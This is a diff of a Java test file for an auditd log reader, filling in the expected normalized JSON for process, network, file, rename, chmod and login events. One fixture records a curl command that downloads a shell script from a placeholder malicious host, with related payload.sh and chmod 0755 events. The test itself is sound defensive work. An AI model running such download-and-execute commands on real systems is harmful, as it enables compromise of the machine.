@@ -25,37 +25,37 @@ class AuditdTextTest {
     @Test
     void readsAProcessStart() {
         assertThat(Facts.of(reader.event(AuditFixtures.EXECVE))).isEqualTo("""
-                TODO""".formatted(HOST));
+                {"@timestamp":"2026-03-02T10:00:05.701Z","event":{"action":"process_start","code":"execve","dataset":"linux.auditd"},%s,"user":{"name":"ada","id":"1000"},"process":{"entity_id":"lin-7.corp.example:8:2221","pid":2221,"start":"2026-03-02T10:00:05.701Z","executable":"/usr/bin/curl","name":"curl","command_line":"curl -o \\"/tmp/my report.sh\\" https://files.bad.example/a","working_directory":"/home/ada","parent":{"entity_id":"lin-7.corp.example:8:2176","pid":2176}}}""".formatted(HOST));
     }
 
     @Test
     void readsAConnection() {
         assertThat(Facts.of(reader.event(AuditFixtures.CONNECT))).isEqualTo("""
-                TODO""".formatted(HOST));
+                {"@timestamp":"2026-03-02T10:00:05.802Z","event":{"action":"network_connection","code":"42","dataset":"linux.auditd"},%s,"user":{"id":"1000"},"process":{"entity_id":"lin-7.corp.example:8:2221","pid":2221,"executable":"/usr/bin/curl","name":"curl"},"destination":{"ip":"203.0.113.9","port":443},"network":{"direction":"egress"}}""".formatted(HOST));
     }
 
     @Test
     void readsAFileThatIsCreated() {
         assertThat(Facts.of(reader.event(AuditFixtures.OPEN))).isEqualTo("""
-                TODO""".formatted(HOST));
+                {"@timestamp":"2026-03-02T10:00:05.903Z","event":{"action":"file_write","code":"257","dataset":"linux.auditd"},%s,"user":{"id":"1000"},"process":{"entity_id":"lin-7.corp.example:8:2221","pid":2221,"executable":"/usr/bin/curl","name":"curl","working_directory":"/home/ada"},"file":{"path":"/home/ada/Downloads/payload.sh","name":"payload.sh","extension":"sh"}}""".formatted(HOST));
     }
 
     @Test
     void readsARenameAsAWriteWithItsSource() {
         assertThat(Facts.of(reader.event(AuditFixtures.RENAME))).isEqualTo("""
-                TODO""".formatted(HOST));
+                {"@timestamp":"2026-03-02T10:00:06.004Z","event":{"action":"file_write","code":"82","dataset":"linux.auditd"},%s,"user":{"id":"1000"},"process":{"entity_id":"lin-7.corp.example:8:3001","pid":3001,"executable":"/usr/lib/firefox/firefox","name":"firefox","working_directory":"/home/ada"},"file":{"path":"/home/ada/Downloads/a.AppImage","name":"a.AppImage","extension":"appimage","original_path":"/home/ada/Downloads/a.AppImage.part"}}""".formatted(HOST));
     }
 
     @Test
     void readsAChangeOfModeOfAnotherArchitecture() {
         assertThat(Facts.of(reader.event(AuditFixtures.CHMOD))).isEqualTo("""
-                TODO""".formatted(HOST));
+                {"@timestamp":"2026-03-02T10:00:06.105Z","event":{"action":"file_mode","code":"53","dataset":"linux.auditd"},%s,"user":{"id":"0"},"process":{"entity_id":"lin-7.corp.example::2222","pid":2222,"executable":"/usr/bin/chmod","name":"chmod","working_directory":"/tmp"},"file":{"path":"/tmp/a.sh","name":"a.sh","extension":"sh","mode":"0755"}}""".formatted(HOST));
     }
 
     @Test
     void readsALogin() {
         assertThat(Facts.of(reader.event(AuditFixtures.LOGIN))).isEqualTo("""
-                TODO""".formatted(HOST));
+                {"@timestamp":"2026-03-02T10:00:00.100Z","event":{"action":"logon","code":"user_login","dataset":"linux.auditd"},%s,"user":{"name":"ada","id":"1000"},"client":{"ip":"10.1.2.17"},"logon":{"type":10,"id":"8","ip":"10.1.2.17","begin":true}}""".formatted(HOST));
     }
 
     @Test
